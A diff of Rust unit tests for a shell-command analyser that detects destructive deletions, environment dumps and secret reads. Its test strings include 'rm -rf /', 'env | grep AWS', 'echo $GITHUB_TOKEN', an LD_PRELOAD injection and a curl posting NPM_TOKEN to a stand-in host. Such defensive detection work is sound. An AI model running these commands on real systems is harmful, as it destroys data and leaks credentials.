@@ -379,7 +379,8 @@ fn parameters_homes_temp_dirs_and_subcommand_options_are_read_as_the_shell_reads
     assert_eq!(commands("git -- reset --hard"), ["git flags=hard operands=reset"]);
     assert_eq!(commands("git checkout -bfeature"), ["git flags=b operands=checkout"]);
     assert_eq!(commands("rm -rf $TMPDIR/x"), ["rm flags=r,f operands=/tmp/x"]);
-    assert_eq!(commands("TMPDIR=/ rm -rf $TMPDIR/x"), ["rm flags=r,f operands=$TMPDIR/x"]);
+    // (An assignment before the program is the command's environment: `env TMPDIR=/ rm …`.)
+    assert_eq!(commands("TMPDIR=/ rm -rf $TMPDIR/x"), ["env", "rm flags=r,f operands=$TMPDIR/x"]);
     assert_eq!(commands("export TMPDIR=~; rm -rf $TMPDIR")[1], "rm flags=r,f operands=$TMPDIR");
     // A default reads two ways: as written (known only at run time) and as its default.
     assert_eq!(commands("rm -rf ${TMPDIR:-/}"), ["rm flags=r,f operands=${TMPDIR:-/}", "rm flags=r,f operands=/"]);
@@ -399,13 +400,13 @@ fn a_substitution_that_echoes_one_plain_word_is_that_word() {
 #[test]
 fn default_expansions_and_ifs_are_followed() {
     assert_eq!(commands("rm -rf ${D:=~}"), ["rm flags=r,f operands=${D:=~}", "rm flags=r,f operands=~"]);
-    assert_eq!(commands("ls ${D+/x}"), ["ls operands=${D+/x}", "ls operands=/x"]);
+    assert_eq!(commands("ls ${D+/x}"), ["printenv operands=D via=ls", "ls operands=${D+/x}", "ls operands=/x"]);
     // `:=` sets the variable too: a later `$D` is its value or the default.
     assert_eq!(commands(": ${P:=rm}; $P -rf /")[2..], ["$P flags=r,f operands=/", "rm flags=r,f operands=/"]);
     // A variable the line sets may be set only in a subshell, or empty: the default reads too.
     assert_eq!(commands("(D=x); rm -rf ${D:-~}"), ["rm flags=r,f operands=${D:-~}", "rm flags=r,f operands=~"]);
     // Inside double quotes, a default's `~` is text.
-    assert_eq!(commands("rm -rf \"${C:-~/x}\"")[1], "rm flags=r,f operands=./~/x");
+    assert_eq!(commands("rm -rf \"${C:-~/x}\"")[2], "rm flags=r,f operands=./~/x");
     // In a redirection's target too.
     assert_eq!(
         files("echo x > ${F:-.git/config}"),
@@ -712,6 +713,46 @@ fn aliases_the_line_defines_are_read_both_ways() {
         .all(|command| !command.starts_with("rm")));
     assert_eq!(unread("alias r=\"rm -rf '\""), [super::unread::UNPARSED]);
     assert!(quotes_balanced("rm -rf 'a b' \"c\" $'d\\'e'") && !quotes_balanced("rm '") && !quotes_balanced("x\\"));
+}
+
+#[test]
+fn what_commands_read_of_the_environment_is_printenv() {
+    let read = |line: &str| -> Vec<String> {
+        commands(line).into_iter().filter(|command| command.starts_with("printenv")).collect()
+    };
+    // The whole environment.
+    for line in [
+        "env",
+        "env -0",
+        "env | grep AWS",
+        "printenv",
+        "set",
+        "export -p",
+        "export",
+        "declare -x",
+        "typeset -px",
+        "ps eww",
+    ] {
+        assert!(read(line).iter().any(|command| !command.contains("operands=")), "{line}");
+    }
+    // Not a dump: a command run in an environment, shell options, an assignment, one variable.
+    for line in ["env FOO=1 make", "env -i make", "set -e", "export A=1", "ps aux", "ps -ef"] {
+        assert!(read(line).iter().all(|command| command.contains("operands=")), "{line}");
+    }
+    assert_eq!(read("declare -p GITHUB_TOKEN"), ["printenv operands=GITHUB_TOKEN via=declare"]);
+    // Variables the words expand, but the shell's own and those the line sets.
+    assert_eq!(read("echo $GITHUB_TOKEN"), ["printenv operands=GITHUB_TOKEN via=echo"]);
+    assert_eq!(read("curl -d \"t=${NPM_TOKEN}\" https://x.example"), ["printenv operands=NPM_TOKEN via=curl"]);
+    assert!(read("for f in *; do echo $f $HOME $1; done").is_empty());
+    assert!(read("T=abc; echo $T").is_empty());
+    // An argv array reaches no shell: `$T` is its text.
+    let argv: Vec<String> = ["echo", "$T"].map(str::to_string).to_vec();
+    assert!(summarise(&analyse_argv(&argv, crate::paths::PathCase::Sensitive))
+        .iter()
+        .all(|c| !c.starts_with("printenv")));
+    // `A=1 cmd` is `env A=1 cmd`.
+    let line = analyse("LD_PRELOAD=/tmp/x.so ls");
+    assert!(line.commands.iter().any(|command| command.program == "env" && command.words == ["LD_PRELOAD=/tmp/x.so"]));
 }
 
 #[test]
